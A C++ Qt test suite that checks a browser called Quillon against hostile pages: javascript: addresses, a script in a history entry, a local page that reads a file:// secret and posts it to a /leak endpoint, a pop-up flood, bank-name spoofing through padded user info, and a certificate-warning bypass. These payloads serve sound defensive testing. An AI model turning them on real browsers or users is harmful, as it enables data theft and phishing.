// The browser against hostile pages and addresses: nothing let in.
#include "engine/browsercontrol.h"
#include "engine/browserpage.h"
#include "browserfixture.h"
#include "platform/dockframe.h"
#include "platform/documentwindow.h"
#include "app/mainwindow/mainwindow.h"
#include "app/browser/browsertab.h"
#include "app/panes/historypane.h"
#include "navkit/proxies/listproxy.h"
#include "platform/dockpane.h"
#include "app/mainwindow/mainrules.h"
#include "app/mainwindow/mdlaplication.h"
#include "app/settings/mdlregistry.h"
#include "engine/popupcatcherpage.h"
#include "app/settings/programstate.h"
#include "testenvironment.h"
#include "app/browser/tabrules.h"
#include "testpages.h"
#include "testhttpserver.h"
#include "webtestmain.h"

#include <QAction>
#include <QApplication>
#include <QElapsedTimer>
#include <QLineEdit>
#include <QListView>
#include <QProcess>
#include <QStandardPaths>
#include <QTabBar>
#include <QTabWidget>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QWebEngineView>
#include <QSignalSpy>
#include <QtTest>

using namespace mdlRegistry;
using namespace BrowserFixture;
using TestPages::page;

namespace {

QString titleOf(Form1 *main, int position)
{
    Form2 *tab = tabAt(main, position);
    return tab ? tab->wb1()->LocationName() : QString();
}
} // namespace

class TestHostile : public QObject
{
    Q_OBJECT

private slots:
    void init()
    {
        // A server of its own for each test: connections the engine still
        // holds from the test before cannot delay this one.
        m_server = std::make_unique<TestHttpServer>();
        QVERIFY(m_server->listen());
        m_server->setPage(QStringLiteral("/home"), page("Home Page"));
        m_server->setPage(QStringLiteral("/a"), page("Page A"));
        m_server->setPage(QStringLiteral("/leak"), page("leak"));
        m_server->setPage(
            QStringLiteral("/flood"),
            page("Flood",
                 "<button id='b' style='position:fixed;left:0;top:0;width:100%;height:100%'"
                 " onclick=\"for(var i=0;i<300;i++)window.open('');document.title='flooded'\">go</button>"));
        m_env = std::make_unique<TestEnvironment>();
        QVERIFY(QDir().mkpath(m_env->programDir() + QStringLiteral("/_data")));
        SetRegistryValue(HKEY_LOCAL_MACHINE, kSettingsKey, QStringLiteral("HomePage"),
                         m_server->url(QStringLiteral("/home")));
    }
    void cleanup()
    {
        m_env.reset();
        m_server.reset();
    }

    void typedScriptAddressRunsNothing()
    {
        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        QLineEdit *box = main->dsMain()->addressBox();
        const auto typeAndEnter = [box](const QString &text) {
            box->setFocus();
            box->selectAll();
            QTest::keyClicks(box, text);
            QTest::keyClick(box, Qt::Key_Return);
        };
        // A script that ran would ask the server for /ran at once, before the
        // page typed after it is even requested.
        typeAndEnter(QStringLiteral("javascript:new Image().src='/ran';document.title='pwned'"));
        typeAndEnter(m_server->url(QStringLiteral("/a")));
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/a"))));
        QCOMPARE(titleOf(main.get(), 1), QStringLiteral("Page A"));
        QCOMPARE(m_server->requestCount(QStringLiteral("/ran")), 0);
        shutDown(main);
    }

    void historyEntryCannotCarryAScript()
    {
        QVERIFY(m_env->installComponents(NAVKIT_LIBRARY));
        m_server->setPage(
            QStringLiteral("/nice"),
            "<html><head><meta charset='utf-8'><title>Nice page&gt;\xc2\xa4&lt;javascript:document.title='pwned'"
            "</title></head><body>nice</body></html>");
        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        Form2 *tab = tabAt(main.get(), 1);
        tab->wb1()->Navigate(m_server->url(QStringLiteral("/nice")));
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/nice"))));
        tab->wb1()->Navigate(m_server->url(QStringLiteral("/a")));
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/a"))));

        auto *pane = qobject_cast<Form6 *>(main->dsMain()->pane(QStringLiteral("frmHistory"))->hostedForm());
        ListProxy list = pane->List1();
        QVERIFY(list.isValid());
        auto *view = list.widget()->findChild<QListView *>();
        QVERIFY(view);
        int row = -1;
        QTRY_VERIFY_WITH_TIMEOUT(
            [&] {
                QTest::keyRelease(view, Qt::Key_R, Qt::ControlModifier); // the list's own reload key
                for (int i = 0; i < list.ListCount(); ++i) {
                    if (list.List(i).contains(QStringLiteral("Nice page")))
                        row = i;
                }
                return row >= 0;
            }(),
            kTimeout);
        QCOMPARE(list.ListUrl(row), m_server->url(QStringLiteral("/nice")));
        // The user double-clicks the harmless-looking entry.
        const QRect rect = view->visualRect(view->model()->index(row, 0));
        QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, rect.center());
        QTest::mouseDClick(view->viewport(), Qt::LeftButton, {}, rect.center());
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/nice"))));
        QVERIFY(titleOf(main.get(), 1).startsWith(QStringLiteral("Nice page"))); // the page, not its script
        shutDown(main);
    }

    void localPageReadsNoFileAndReachesNoServer()
    {
        QTemporaryDir dir;
        QFile secret(dir.filePath(QStringLiteral("secret.txt")));
        QVERIFY(secret.open(QIODevice::WriteOnly));
        secret.write("the secret");
        secret.close();
        const QString leak = m_server->url(QStringLiteral("/leak"));
        QFile html(dir.filePath(QStringLiteral("evil.html")));
        QVERIFY(html.open(QIODevice::WriteOnly));
        html.write("<html><head><title>start</title></head><body><script>\n"
                   "var got='blocked';\n"
                   "try { var x=new XMLHttpRequest(); x.open('GET','"
                   + QUrl::fromLocalFile(secret.fileName()).toEncoded()
                   + "',false);"
                     " x.send(); got=x.responseText; } catch(e) {}\n"
                     "new Image().src='"
                   + leak.toUtf8()
                   + "?img='+got;\n"
                     "fetch('"
                   + leak.toUtf8()
                   + "?fetch='+got).catch(function(){});\n"
                     "window.open('"
                   + leak.toUtf8()
                   + "?open='+got);\n"
                     "document.title='read:'+got;\n"
                     "</script></body></html>");
        html.close();
        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        tabAt(main.get(), 1)->wb1()->Navigate(QUrl::fromLocalFile(html.fileName()).toString());
        QTRY_VERIFY_WITH_TIMEOUT(titleOf(main.get(), 1).startsWith(QStringLiteral("read:")), kTimeout);
        QCOMPARE(titleOf(main.get(), 1), QStringLiteral("read:blocked"));
        // Give the requests their chance to arrive: a page loaded after them does.
        mdlAplication::OpenBrowserTab(*main->tabs(), m_server->url(QStringLiteral("/a")));
        QVERIFY(waitLoaded(main.get(), 3, m_server->url(QStringLiteral("/a"))));
        QCOMPARE(m_server->requestCount(QStringLiteral("/leak")), 0);
        QCOMPARE(main->dsMain()->documentCount(), 3); // no tab for the pop-up
        shutDown(main);
    }

    void failedSecureLoadShowsNoLock()
    {
        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        Form2 *tab = tabAt(main.get(), 1);
        // https to a port nobody listens on: the load fails.
        QTcpServer gone;
        QVERIFY(gone.listen(QHostAddress(QStringLiteral("127.0.0.1")), 0));
        const QString url = QStringLiteral("https://127.0.0.1:%1/a").arg(gone.serverPort());
        gone.close();
        QSignalSpy done(tab->wb1(), &BrowserControl::DocumentComplete);
        tab->wb1()->Navigate(url);
        QVERIFY(done.wait(kTimeout));
        QVERIFY(!tab->lockVisible());
        QCOMPARE(tab->lockToolTip(), QStringLiteral("Zone Internet"));
        shutDown(main);
    }

    void certificateErrorPageAndTheWayOn()
    {
        const QString openssl = QStandardPaths::findExecutable(QStringLiteral("openssl"));
        if (openssl.isEmpty())
            QSKIP("openssl is not installed");
        QTemporaryDir dir;
        QProcess make;
        make.start(openssl,
                   {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
                    QStringLiteral("rsa:2048"), QStringLiteral("-nodes"), QStringLiteral("-subj"),
                    QStringLiteral("/CN=127.0.0.1"), QStringLiteral("-days"), QStringLiteral("2"),
                    QStringLiteral("-keyout"), dir.filePath(QStringLiteral("key.pem")), QStringLiteral("-out"),
                    dir.filePath(QStringLiteral("cert.pem"))});
        QVERIFY(make.waitForFinished(60000));
        QFile cert(dir.filePath(QStringLiteral("cert.pem")));
        QFile key(dir.filePath(QStringLiteral("key.pem")));
        QVERIFY(cert.open(QIODevice::ReadOnly) && key.open(QIODevice::ReadOnly));
        TestHttpServer secure;
        if (!secure.listenTls(cert.readAll(), key.readAll()))
            QSKIP("no TLS support in this Qt build");
        secure.setPage(QStringLiteral("/s"), page("Self-signed"));

        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        Form2 *tab = tabAt(main.get(), 1);
        tab->wb1()->Navigate(secure.url(QStringLiteral("/s")));
        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Certificate error"), kTimeout);
        QVERIFY(!QApplication::activeModalWidget()); // no question in a dialog
        QVERIFY(!tab->lockVisible());
        QCOMPARE(secure.requestCount(QStringLiteral("/s")), 0);
        // The address box names the site, not the page that stands for it.
        QCOMPARE(main->dsMain()->commandText(QStringLiteral("mnuAddress")), secure.url(QStringLiteral("/s")));

        // Any other way to the site's address with the way on's mark (here
        // a script steering the tab, as an opener can steer its pop-up)
        // lacks the page's token: refused where it starts.
        QSignalSpy refused(tab->wb1()->page(), &BrowserPage::navigationRequested);
        tab->wb1()->page()->runJavaScript(
            QStringLiteral("location.href = '%1#quillon-continue'").arg(secure.url(QStringLiteral("/s"))));
        QTRY_VERIFY_WITH_TIMEOUT(!refused.isEmpty(), kTimeout);
        // A pass would reach the server within a second.
        QVERIFY(!QTest::qWaitFor([&secure] { return secure.requestCount(QStringLiteral("/s")) > 0; }, 1000));
        QCOMPARE(titleOf(main.get(), 1), QStringLiteral("Certificate error"));

        // The way on, by keyboard: Tab to the link, Enter.
        QWidget *page = tab->wb1()->view()->focusProxy();
        QVERIFY(page);
        page->setFocus();
        QTest::keyClick(page, Qt::Key_Tab);
        QTest::keyClick(page, Qt::Key_Return);
        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Self-signed"), kTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(!tab->wb1()->Busy(), kTimeout);
        QVERIFY(!tab->lockVisible()); // passed, but never shown as secure
        QCOMPARE(tab->statusText(), BrowserControl::kPassedCertificateText);
        shutDown(main);
    }

    // A trusted name padded into the user information of a link: the box
    // and the tab's tooltip show the real host first.
    void paddedUserInfoNeverShown()
    {
        const QString real = m_server->url(QStringLiteral("/a"));
        const QString padded = QStringLiteral("http://www.quill-bank.example") + QString(300, u' ') + u'@'
            + real.mid(QStringLiteral("http://").size());
        m_server->setPage(QStringLiteral("/lure"),
                          page("Lure",
                               "<a id='l' style='position:fixed;inset:0;display:block' href='" + padded.toUtf8()
                                   + "'>your bank</a>"));
        auto main = start();
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
        Form2 *tab = tabAt(main.get(), 1);
        tab->wb1()->Navigate(m_server->url(QStringLiteral("/lure")));
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/lure"))));
        QWidget *view = tab->wb1()->view()->focusProxy();
        QVERIFY(view);
        QTest::mouseClick(view, Qt::LeftButton, {}, view->rect().center());
        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Page A"), kTimeout);
        const QString box = main->dsMain()->commandText(QStringLiteral("mnuAddress"));
        QVERIFY2(box.startsWith(QStringLiteral("http://127.0.0.1")) && !box.contains(QStringLiteral("bank")),
                 qPrintable(box));
        QVERIFY(!TabRules::pageToolTip(QString(), tab->wb1()->LocationURL()).contains(QStringLiteral("bank")));
        shutDown(main);
    }

    void emptyPopupFloodHoldsNoPages()
    {
        auto main = start();
        main->dsMain()->command(QStringLiteral("mnuPopStop"))->trigger(); // pop-up stop on
        Form2 *tab = tabAt(main.get(), 1);
        tab->wb1()->Navigate(m_server->url(QStringLiteral("/flood")));
        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/flood"))));
        QWidget *target = tab->wb1()->view()->focusProxy();
        QVERIFY(target);
        QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(40, 40));
        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("flooded"), kTimeout);
        QVERIFY(PopupCatcherPage::alive() <= PopupCatcherPage::kMostAlive);
        QTRY_COMPARE_WITH_TIMEOUT(PopupCatcherPage::alive(), 0, 10000);
        QCOMPARE(main->dsMain()->documentCount(), 2);
        shutDown(main);
    }

private:
    std::unique_ptr<TestHttpServer> m_server;
    std::unique_ptr<TestEnvironment> m_env;
};

QUILLON_WEB_TEST_MAIN(TestHostile)

#include "tst_hostile.moc"
